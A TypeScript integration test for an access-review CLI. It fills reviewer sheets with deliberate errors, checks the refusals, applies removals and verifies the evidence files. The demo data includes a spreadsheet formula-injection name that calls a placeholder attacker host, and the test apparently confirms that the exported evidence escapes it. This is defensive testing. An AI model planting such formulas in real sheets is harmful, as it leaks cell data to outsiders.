import { rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { demoOrganization } from "../../src/simulator/demo-organization.js";
import { runCli } from "../support/cli.js";
import {
  type Fill,
  returnCsv,
  returnXlsx,
  type SheetRow,
  sentRows,
  sheetNames,
} from "../support/filled-sheets.js";
import { edgesOfItems, hashesHold, type WholeReview, wholeReview } from "../support/whole-review.js";

interface Checked {
  isFinished: boolean;
  rows: { total: number; decided: number; open: number };
  refused: { kind: string; places: { file: string; row: number }[]; item?: { key: string } }[];
  notMine: { key: string }[];
  awaited: { reviewer: string }[];
}

interface Planned {
  expect: number;
  removals: { key: string; fate: string }[];
}

const AMELIA = "sheet-amelia.hart";
const INGRID = "sheet-ingrid.halvorsen";
const NOAH = "sheet-noah.okafor";
const SECURITY = "sheet-security";

const key = (row: SheetRow | undefined) => row?.["Row key"] ?? "";
const decided = (row: SheetRow, decision: string): SheetRow => ({ ...row, Decision: decision });

/** Keeps everything but the nth, the first being 0. */
const removing =
  (...nth: readonly number[]): Fill =>
  (rows) =>
    rows.map((row, at) => decided(row, nth.includes(at) ? "Remove" : "Keep"));

async function opened(): Promise<WholeReview> {
  const place = await wholeReview(demoOrganization(), runCli);
  expect((await place.sync(join(place.cwd, "sync.json"))).code).toBe(0);
  const { code, stderr } = await place.review("open", [
    "--by",
    "manager",
    "--fallback",
    "security@larkspur.example",
    "--privileged",
    "AWS*",
  ]);
  expect({ code, stderr }).toMatchObject({ code: 0 });
  return place;
}

/** What was refused, as "kind file row,row". */
const refusals = ({ refused }: Checked) =>
  refused
    .map(({ kind, places }) => `${kind}: ${places.map(({ file, row }) => `${file} ${row}`).join(", ")}`)
    .sort();

describe("a review of the demo organisation", () => {
  it("goes from the sheets to the evidence, and takes away what was decided and nothing else", async () => {
    const place = await opened();
    const { folder, told, review, write, edges, removed, table } = place;
    expect(sheetNames(folder)).toEqual([AMELIA, INGRID, NOAH, SECURITY]);
    const before = edges();

    // What comes back at first has every kind of mistake.
    const own = (await sentRows(folder, AMELIA)).find(({ Person }) => Person === "Noah Okafor");
    const elsewhere = await sentRows(folder, INGRID);
    await returnXlsx(folder, {
      sheet: AMELIA,
      fill: (rows) => {
        const [first, second, ...rest] = removing()(rows);
        return [
          // Sorted apart: the keys of two rows are exchanged.
          { ...first, "Row key": key(second), Decision: "Remove" },
          { ...second, "Row key": key(first), Decision: "Keep" },
          ...rest,
          decided(elsewhere[0] ?? {}, "Remove"),
        ];
      },
    });
    returnCsv(folder, {
      sheet: INGRID,
      fill: (rows) => rows.map((row, at) => decided(row, ["revoke", "", "KEEP ", "keep"][at] ?? "")),
    });
    await returnXlsx(folder, {
      sheet: NOAH,
      fill: (rows) => [
        ...removing(
          0,
          2,
        )(rows).map((row, at) => (at === 1 ? { ...row, "Row key": "r_0123456789abcdef" } : row)),
        decided(own ?? {}, "Keep"),
      ],
    });
    await returnXlsx(folder, { sheet: NOAH, fill: removing(2, 3), name: `${NOAH} (1).xlsx` });
    const first = await told<Checked>("check");
    expect(first.code).toBe(1);
    expect(refusals(first.answer)).toMatchInlineSnapshot(`
      [
        "changed row: sheet-amelia.hart.xlsx 2",
        "changed row: sheet-amelia.hart.xlsx 3",
        "contradiction: sheet-noah.okafor (1).xlsx 2, sheet-noah.okafor.xlsx 2",
        "contradiction: sheet-noah.okafor (1).xlsx 5, sheet-noah.okafor.xlsx 5",
        "not on this sheet: sheet-amelia.hart.xlsx 15",
        "not understood: sheet-ingrid.halvorsen.csv 2",
        "self-review: sheet-noah.okafor.xlsx 12",
        "unknown key: sheet-noah.okafor.xlsx 3",
      ]
    `);
    expect(first.answer.awaited.map(({ reviewer }) => reviewer)).toEqual(["security@larkspur.example"]);

    // Then all is mended, and one row given to somebody else.
    rmSync(join(folder, "returned", `${NOAH} (1).xlsx`));
    const asked: SheetRow[] = [];
    const remove =
      (isAsked: (row: SheetRow) => boolean): Fill =>
      (rows) =>
        rows.map((row) => {
          if (!isAsked(row)) return decided(row, "Keep");
          asked.push(row);
          return decided(row, "Remove");
        });
    const of = (person: string, access: string) => (row: SheetRow) =>
      row.Person?.includes(person) === true && row.Access?.includes(access) === true;
    await returnXlsx(folder, {
      sheet: AMELIA,
      fill: remove(
        (row) =>
          of("Eve Mallory", "VPN")(row) ||
          of("Ingrid", "role Manager")(row) ||
          of("Ingrid", "app Slack")(row),
      ),
    });
    returnCsv(folder, { sheet: INGRID, fill: remove(of("(day)", "Lunch orders")) });
    await returnXlsx(folder, {
      sheet: NOAH,
      fill: remove(
        (row) => of("Grace", "AWS")(row) || of("Søren", "Engineering")(row) || of("Søren", "On-call")(row),
      ),
    });
    returnCsv(folder, {
      sheet: SECURITY,
      fill: (rows) => rows.map((row, at) => decided(row, at < 2 ? "Not mine" : "Keep")),
    });
    const second = await told<Checked>("check");
    expect({ code: second.code, refused: refusals(second.answer), open: second.answer.rows.open }).toEqual({
      code: 1,
      refused: [],
      open: 2,
    });
    expect((await review("check", ["--forward", "ciso@larkspur.example"])).code).toBe(1);
    await returnXlsx(folder, { sheet: "sheet-ciso-2", fill: remove(of("Amelia", "All Staff")) });
    const third = await told<Checked>("check");
    expect({ code: third.code, isFinished: third.answer.isFinished }).toEqual({ code: 0, isFinished: true });

    // The plan changes nothing. What a rule or the console decides is listed alone.
    const plan = await told<Planned>("apply");
    expect({ code: plan.code, removed: removed() }).toEqual({ code: 0, removed: [] });
    const fates = new Map(plan.answer.removals.map((removal) => [removal.key, removal.fate]));
    expect(
      asked.map((row) => [row.Person, row.Access, fates.get(key(row))].join(", ")).sort(),
    ).toMatchInlineSnapshot(`
      [
        "=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory"), group VPN Contractors, remove",
        "Amelia Hart, group All Staff, remove",
        "Front Desk (day), app Lunch orders, remove",
        "Grace Whitfield, app AWS Production, remove",
        "Ingrid Halvorsen, app Slack, remove",
        "Ingrid Halvorsen, role Manager, console",
        "Søren Lindqvist 🚀, group Engineering, rule",
        "Søren Lindqvist 🚀, group On-call 📟, remove",
      ]
    `);
    expect(fates.size).toBe(asked.length);
    const removable = asked.filter(
      ({ How, Access }) => How?.startsWith("by rule") === false && Access?.startsWith("role") === false,
    );
    const expected = edgesOfItems(folder, removable.map(key));
    expect(plan.answer.expect).toBe(expected.length);

    const applied = await write(["--expect", String(expected.length), "--ticket", "SEC-4711", "--force"]);
    expect({ code: applied.code, stderr: applied.stderr }).toMatchObject({ code: 0 });
    expect(removed()).toEqual(expected);
    expect(edges()).toEqual(before.filter((edge) => !expected.includes(edge)));

    // The sync of before proves nothing.
    expect((await review("close")).code).toBe(3);
    expect((await place.sync(join(place.cwd, "sync.json"))).code).toBe(0);
    const closed = await review("close");
    expect(closed.code).toBe(1);
    const proof = table("evidence", "proof.csv");
    expect(proof).toHaveLength(38);
    expect(
      proof
        .filter(({ Decision }) => Decision?.toLowerCase() === "remove")
        .map((row) => `${row.Person}, ${row.Access}, ${row["Still there"]}: ${row.Why}`)
        .sort(),
    ).toMatchInlineSnapshot(`
      [
        "'=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory"), group VPN Contractors, no: removed by jc-connector, and not there any more",
        "Amelia Hart, group All Staff, no: removed by jc-connector, and not there any more",
        "Front Desk (day), app Lunch orders, no: removed by jc-connector, and not there any more",
        "Grace Whitfield, app AWS Production, no: removed by jc-connector, and not there any more",
        "Ingrid Halvorsen, app Slack, no: removed by jc-connector, and not there any more; the app still comes through All Staff",
        "Ingrid Halvorsen, role Manager, yes: to be removed and still there: an administrator's rights are ended at the console alone",
        "Søren Lindqvist 🚀, group Engineering, yes: to be removed and still there: a rule decides who is in the group",
        "Søren Lindqvist 🚀, group On-call 📟, no: removed by jc-connector, and not there any more",
      ]
    `);
    expect(hashesHold(join(folder, "evidence"))).toBe(true);
    const last = await told<Checked & { leftOpen: unknown[] }>("check");
    expect({ code: last.code, open: last.answer.leftOpen.length }).toEqual({ code: 1, open: 2 });
  }, 120_000);
});
